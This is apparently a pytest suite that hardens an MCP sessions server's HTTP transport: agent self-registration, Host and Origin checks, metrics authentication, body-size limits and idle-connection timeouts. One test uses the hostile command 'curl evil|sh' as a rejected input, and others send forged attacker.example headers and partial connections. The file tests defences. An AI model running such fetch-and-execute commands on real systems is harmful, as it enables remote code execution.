"""The HTTP transport under attack (issue 13): what an agent's token allows, Host and
Origin checks, /metrics cost and access, connection timeouts, request body limits."""

from __future__ import annotations

import asyncio
import json
import time

import anyio
import httpx2

from mcp_sessions.store import tokens
from tests.conftest import call, call_error
from tests.http_support import http_client, http_server

INITIALIZE = {
    "jsonrpc": "2.0", "id": 1, "method": "initialize",
    "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "curl", "version": "1"}},
}


async def test_an_agent_registers_only_itself(database_url, conn):
    _, alice = await tokens.create(conn, "alice")
    await conn.execute("INSERT INTO agents (name, type, command) VALUES ('bob', 'cli', 'bob --serve')")
    async with http_server(database_url) as server:
        async with http_client(server.url, alice) as a:
            message = await call_error(a, "register_agent", name="bob", type="cli", command="curl evil|sh")
            assert message.startswith("[invalid_input]") and "'bob' is not you" in message and "'alice'" in message
            message = await call_error(a, "register_agent", name="carol", type="cli")
            assert "'carol' is not you" in message
            mine = await call(a, "register_agent", name="alice", type="cli", command="alice --serve")
            assert mine["name"] == "alice" and mine["command"] == "alice --serve"
    assert await conn.fetchval("SELECT command FROM agents WHERE name = 'bob'") == "bob --serve"
    assert await conn.fetchval("SELECT count(*) FROM agents WHERE name = 'carol'") == 0


def mcp_headers(**extra: str) -> dict[str, str]:
    return {"Accept": "application/json, text/event-stream", "Content-Type": "application/json", **extra}


def port_of(server) -> int:
    return int(server.base.rsplit(":", 1)[1])


async def test_host_and_origin_are_checked_on_every_loopback_address(database_url):
    async with http_server(database_url, "--host", "127.0.0.2", MCP_SESSIONS_HTTP_AUTH="none") as server:
        url, port = server.url, port_of(server)
        async with httpx2.AsyncClient() as http:
            rebound = await http.post(url, json=INITIALIZE, headers=mcp_headers(Host="attacker.example"))
            assert rebound.status_code == 421
            assert rebound.json()["error"]["message"].startswith("[forbidden] this server does not answer to Host")
            assert "MCP_SESSIONS_HTTP_ALLOWED_HOSTS" in rebound.json()["error"]["message"]
            assert (await http.get(server.base + "/metrics", headers={"Host": "attacker.example"})).status_code == 421
            # a load balancer's probe by address still gets its answer
            assert (await http.get(server.base + "/healthz", headers={"Host": "10.1.2.3"})).status_code == 200
            foreign = await http.post(url, json=INITIALIZE, headers=mcp_headers(Origin="http://attacker.example"))
            assert foreign.status_code == 403 and "MCP_SESSIONS_HTTP_ALLOWED_ORIGINS" in foreign.text
            assert (await http.post(url, json=INITIALIZE, headers=mcp_headers(Origin="null"))).status_code == 403
            for host in (f"127.0.0.2:{port}", f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}"):
                answered = await http.post(url, json=INITIALIZE, headers=mcp_headers(
                    Host=host, Origin=f"http://{host}"))
                assert answered.status_code == 200, (host, answered.text)
        async with http_client(server.url, None) as client:  # the SDK's client sends Host 127.0.0.2:port
            await call(client, "list_sessions")


async def test_allowed_hosts_and_origins_on_a_public_address(database_url, conn):
    _, token = await tokens.create(conn, "codex")
    env = {"MCP_SESSIONS_HTTP_ALLOWED_HOSTS": "mcp.example.com, other.example:8443",
           "MCP_SESSIONS_HTTP_ALLOWED_ORIGINS": "https://app.example.com"}
    async with http_server(database_url, "--host", "0.0.0.0", **env) as server:
        url = f"http://127.0.0.1:{port_of(server)}/mcp"
        auth = {"Authorization": f"Bearer {token}"}
        async with httpx2.AsyncClient() as http:
            for host, status in (("mcp.example.com", 200), ("mcp.example.com:443", 200), ("other.example:8443", 200),
                                 ("other.example", 421), ("127.0.0.1", 421), ("evil.example", 421)):
                response = await http.post(url, json=INITIALIZE, headers=mcp_headers(Host=host, **auth))
                assert response.status_code == status, (host, response.text)
            for origin, status in (("https://app.example.com", 200), ("https://mcp.example.com", 200),
                                   ("https://evil.example", 403), ("http://127.0.0.1:1234", 403)):
                response = await http.post(url, json=INITIALIZE, headers=mcp_headers(
                    Host="mcp.example.com", Origin=origin, **auth))
                assert response.status_code == status, (origin, response.text)
            metrics = (await http.get(url.replace("/mcp", "/metrics"), headers={"Host": "mcp.example.com"})).text
    assert 'mcp_sessions_http_refused_total{reason="host"} 3' in metrics
    assert 'mcp_sessions_http_refused_total{reason="origin"} 2' in metrics


async def test_request_bodies_up_to_the_content_limit(database_url, conn):
    _, token = await tokens.create(conn, "codex")
    mib = 1024 * 1024
    async with http_server(database_url, MCP_SESSIONS_MAX_CONTENT_BYTES=str(6 * mib)) as server:
        async with http_client(server.url, token) as client:
            sid = (await call(client, "create_session", title="big"))["id"]
            # over the SDK's own 4 MiB default, within the content limit
            chunk = await call(client, "add_chunk", session_id=sid, content="x" * (5 * mib))
            assert chunk["size"] == 5 * mib
            message = await call_error(client, "add_chunk", session_id=sid, content="y" * (6 * mib + 1))
            assert message.startswith("[invalid_input]") and "MCP_SESSIONS_MAX_CONTENT_BYTES" in message
        call_body = {"jsonrpc": "2.0", "id": 3, "method": "tools/call",
                     "params": {"name": "add_chunk", "arguments": {"session_id": sid, "content": "z" * (14 * mib)}}}
        data = json.dumps(call_body).encode()
        headers = mcp_headers(Authorization=f"Bearer {token}")

        async def streamed():
            for start in range(0, len(data), mib):
                yield data[start:start + mib]

        async with httpx2.AsyncClient(timeout=60) as http:
            for content in (data, streamed()):  # declared by Content-Length, or sent in chunks
                response = await http.post(server.url, content=content, headers=headers)
                assert response.status_code == 413, response.text
                message = response.json()["error"]["message"]
                assert message.startswith("[invalid_input] the request body is")
                assert "over the HTTP limit of 13,631,488 bytes" in message
                assert "MCP_SESSIONS_MAX_CONTENT_BYTES=6,291,456" in message
    assert await conn.fetchval("SELECT count(*) FROM conversation_chunks") == 1


async def test_metrics_cost_one_read_per_interval_and_can_require_a_token(database_url, conn):
    _, token = await tokens.create(conn, "prometheus")
    env = {"MCP_SESSIONS_METRICS_AUTH": "token", "MCP_SESSIONS_METRICS_REFRESH_SECONDS": "60"}
    async with http_server(database_url, **env) as server, httpx2.AsyncClient() as http:
        metrics = server.base + "/metrics"
        refused = await http.get(metrics)
        assert refused.status_code == 401 and refused.json()["error"]["message"].startswith("[unauthorized]")
        assert (await http.get(server.base + "/healthz")).status_code == 200
        auth = {"Authorization": f"Bearer {token}"}
        first = (await http.get(metrics, headers=auth)).text
        assert 'mcp_sessions_tasks{status="pending"} 0' in first
        await conn.execute("INSERT INTO sessions (id, title, created_by) VALUES ('s', 't', 'x')")
        await conn.execute("INSERT INTO tasks (session_id, task_type, created_by) VALUES ('s', 'code', 'x')")
        scrapes = await asyncio.gather(*(http.get(metrics, headers=auth) for _ in range(20)))
        # served from the figures read by the first scrape: no scan of tasks per scrape
        assert all('mcp_sessions_tasks{status="pending"} 0' in s.text for s in scrapes)
        assert all("mcp_sessions_database_figures_age_seconds " in s.text for s in scrapes)
    async with http_server(database_url, MCP_SESSIONS_METRICS_AUTH="token", MCP_SESSIONS_HTTP_AUTH="none") as server:
        async with httpx2.AsyncClient() as http:
            assert (await http.get(server.base + "/metrics")).status_code == 401
            fresh = await http.get(server.base + "/metrics", headers={"Authorization": f"Bearer {token}"})
            assert 'mcp_sessions_tasks{status="pending"} 1' in fresh.text
        async with http_client(server.url, None) as client:  # /mcp stays open without auth
            await call(client, "list_sessions")


async def test_idle_and_half_sent_connections_are_closed(database_url):
    async with http_server(database_url, MCP_SESSIONS_HTTP_IDLE_TIMEOUT="1") as server:
        port = port_of(server)
        silent = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
        partial = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
        for _, writer in partial:
            writer.write(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Le")
        uploading = [await asyncio.open_connection("127.0.0.1", port) for _ in range(10)]
        for _, writer in uploading:
            writer.write(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                         b"Content-Length: 1000\r\n\r\n{\"jsonrpc\"")
        started = time.monotonic()
        async with httpx2.AsyncClient() as http:
            assert (await http.get(server.base + "/healthz")).status_code == 200
        for reader, writer in silent + partial + uploading:
            with anyio.fail_after(10):
                await reader.read()  # b"" (or a short error response) once the server closes it
            writer.close()
        assert 0.9 < time.monotonic() - started < 8


def test_the_server_takes_the_hard_open_files_limit():
    """Every connection holds a descriptor; a soft limit of 1024 let 1,100 idle clients keep
    /healthz from connecting at all."""
    import subprocess
    import sys

    probe = ("import resource; from mcp_sessions.http.connections import raise_open_files_limit; "
             "raise_open_files_limit(); print(resource.getrlimit(resource.RLIMIT_NOFILE)[0])")
    run = subprocess.run(["prlimit", "--nofile=256:4096", sys.executable, "-c", probe],
                         capture_output=True, text=True, timeout=60)
    assert run.returncode == 0 and run.stdout.strip() == "4096", run.stderr
